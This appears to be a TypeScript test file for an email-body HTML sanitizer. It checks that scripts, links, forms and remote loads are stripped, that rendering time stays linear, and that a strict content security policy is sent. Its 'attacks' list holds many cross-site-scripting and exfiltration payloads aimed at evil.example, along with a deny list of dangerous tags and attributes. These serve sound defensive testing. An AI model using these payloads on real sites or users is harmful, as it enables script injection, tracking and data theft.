// A mail's body as it is shown: what runs, is sent, is followed or fetched is not in it, whatever
// the markup; its words are.

import { runInDurableObject } from "cloudflare:test";
import * as fc from "fast-check";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { shownHtml, shownText } from "../../../src/importer/inbox/shown-html.ts";
import { bring, call, holdAlarms, importer, mailOf, work } from "./driver.ts";
import { expectLinear } from "../../growth.ts";
import { reset } from "../../reset.ts";

const bodyOf = (html: string) =>
  shownHtml(html)
    .replace(/^.*<body>/s, "")
    .replace(/<\/body>.*$/s, "");

/** Every tag of the page that is shown, with its attributes, as a browser's own kind of reader sees them. */
async function elementsOf(
  page: string,
): Promise<{ name: string; attributes: [string, string][] }[]> {
  const found: { name: string; attributes: [string, string][] }[] = [];
  const see = (element: Element) => {
    found.push({
      name: element.tagName,
      attributes: [...element.attributes].map(([name = "", value = ""]) => [name, value]),
    });
  };
  await new HTMLRewriter().on("*", { element: see }).transform(new Response(page)).text();
  return found;
}

// prettier-ignore
const FORBIDDEN = ["script", "iframe", "object", "embed", "form", "input", "button", "a", "link", "base", "svg", "math", "img", "video", "audio", "source", "template", "textarea", "style", "noscript"];

async function expectHarmless(html: string): Promise<void> {
  for (const { name, attributes } of await elementsOf(shownHtml(html))) {
    expect(FORBIDDEN, html).not.toContain(name);
    if (name === "meta") continue;
    for (const [attribute, value] of attributes) {
      expect(attribute, html).not.toMatch(
        /^on|^href$|^src|^action$|^background$|^srcdoc$|^formaction$|^xlink|^id$|^name$|^class$|^ping$/,
      );
      if (attribute === "style")
        expect(value, html).not.toMatch(/url\s*\(|expression|@import|position|\\/i);
    }
  }
}

describe("markup that would do something", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    '<img src="https://track.example/p.gif" alt="Logo">',
    '<a href="javascript:alert(1)" onclick="x()" ping="//evil.example">pay</a>',
    '<a href="https://evil.example">pay</a>',
    '<form action="https://evil.example"><input name=card><button formaction=//evil.example>go</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg><script>alert(1)</script><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>@import url(https://evil.example/x.css);</style>",
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<div style="background:u\\72l(https://evil.example/x.png)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<table background="https://evil.example/x.png"><tr><td background=x>1</td></tr></table>',
    '<base href="https://evil.example/"><link rel=stylesheet href=x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror="alert(1)"></template>',
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p title=`><script>alert(1)</script>`>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div/onmouseover='alert(1)'>x</div>",
    '<body onload=alert(1)><html manifest="x">',
    "</body></html><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>",
    "<p id=location name=cookie class=hidden>x</p>",
  ];
  for (const attack of attacks) test(attack, () => expectHarmless(attack));

  test("however it is put together", async () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...attacks,
        "<",
        ">",
        "</",
        "/>",
        '"',
        "'",
        "<!--",
        "-->",
        "<p ",
        "style=",
        "\u0000",
        "&#x6a;",
        "<table>",
      ),
      fc.string({ maxLength: 8 }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 12 }), (pieces) =>
        expectHarmless(pieces.join("")),
      ),
      { numRuns: 60 },
    );
  });
});

test("its words stay, with tables, plain styles and the text of links and pictures", () => {
  const html =
    '<style>p{}</style><table border=1 onclick=x><tr><td style="color:#333">Total</td><td align=right>$34<sup>47</sup></td></tr></table><a href=x>View receipt</a> <img alt="Corner &amp; Co">';
  expect(bodyOf(html)).toBe(
    '<table border="1"><tr><td style="color:#333">Total</td><td align="right">$34<sup>47</sup></td></tr></table><span>View receipt</span> Corner &amp; Co',
  );
});

test("a paragraph after thousands that end is shown; after thousands that do not it is not, and nothing breaks", () => {
  expect(bodyOf(`${"<p>x</p>".repeat(50_000)}<b>end</b>`)).toContain("<b>end</b>");
  expect(bodyOf(`${"<p>x<br>".repeat(50_000)}<b>end</b>`)).toContain("<b>end</b>");
  expect(bodyOf(`${"<div>".repeat(300)}deep${"</div>".repeat(300)}<b>end</b>`)).toMatch(
    /deep.*<b>end<\/b>/,
  );
  expect(bodyOf(`${"<i>x".repeat(50_000)}<b>end</b>`)).not.toContain("<b>end</b>");
});

test("plain text is shown as it is", () => {
  expect(shownText('<b onclick="x">1 & 2</b>')).toContain(
    "&lt;b onclick=&quot;x&quot;&gt;1 &amp; 2&lt;/b&gt;",
  );
});

describe("large markup takes time in proportion to its size", () => {
  const kinds: Record<string, (n: number) => string> = {
    "deep tags": (n) => "<div>".repeat(n),
    "deep tags that end": (n) => `${"<div>".repeat(n)}${"</div>".repeat(n)}`,
    "tags that never end": (n) => "<div ".repeat(n),
    "angle brackets": (n) => "<".repeat(n * 5),
    "open styles": (n) => "<style>".repeat(n),
    "scripts in scripts": (n) => "<svg>".repeat(n),
    "long styles": (n) => `<p style="${"url ".repeat(n)}">x`,
    "ends of nothing": (n) => "</p>".repeat(n),
    "crossed ends": (n) => "<b><i></b>".repeat(n),
  };
  for (const [name, make] of Object.entries(kinds)) {
    test(name, () => expectLinear(160_000, (n) => shownHtml(make(n))));
  }
});

describe("GET /api/inbox/{id}/html", () => {
  beforeEach(() => holdAlarms());
  afterEach(async () => {
    vi.restoreAllMocks();
    await reset();
  });

  test("has a policy of its own under which nothing is loaded, run, sent or framed elsewhere", async () => {
    const { id } = await bring(
      mailOf()
        .replace("text/plain", "text/html")
        .replace("Thank you", "<script>alert(1)</script><b>Thank you</b>"),
    );
    await work();
    const response = await call(`/api/inbox/${id}/html`);

    expect(response.headers.get("content-security-policy")).toBe(
      "default-src 'none'; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'; frame-ancestors 'self'; sandbox",
    );
    expect([
      response.headers.get("x-frame-options"),
      response.headers.get("x-content-type-options"),
      response.headers.get("cache-control"),
    ]).toEqual(["SAMEORIGIN", "nosniff", "no-store"]);
    const text = await response.text();
    expect(text).toContain("<b>Thank you</b>");
    expect(text).not.toContain("alert");
  });

  test("is not there before the mail is read, of a document that is none, and with another policy anywhere else", async () => {
    const { id } = await bring(mailOf());
    expect((await call(`/api/inbox/${id}/html`)).status).toBe(404);
    await work();
    expect((await call(`/api/inbox/${id}/html`)).status).toBe(200);
    expect((await call(`/api/inbox/${id}/html?document=7`)).status).toBe(404);
    expect((await call(`/api/inbox/${id}/html?document=x`)).status).toBe(400);
    expect((await call(`/api/inbox/${id}`)).headers.get("content-security-policy")).toContain(
      "frame-ancestors 'none'",
    );
  });
});

test("a mail whose reading is too large for a row is shown as any other", async () => {
  holdAlarms();
  const { id } = await bring(
    mailOf({ body: "A long story. ".repeat(20_000), charges: [{ total: "5.00" }] }),
  );
  await work();
  const rows = await runInDurableObject(importer(), (_, state) =>
    state.storage.sql.exec("SELECT reading IS NULL AS r2 FROM inbox").toArray(),
  );

  expect(rows).toEqual([{ r2: 1 }]);
  const { reading } = await (
    await call(`/api/inbox/${id}`)
  ).json<{ reading: { cut: boolean; documents: { views: { name: string; text: string }[] }[] } }>();
  expect(
    reading.documents[0]?.views.find(({ name }) => name === "text")?.text.length,
  ).toBeGreaterThan(280_000);
  expect(await (await call(`/api/inbox/${id}/html`)).text()).toContain("A long story.");
  vi.restoreAllMocks();
  await reset();
});
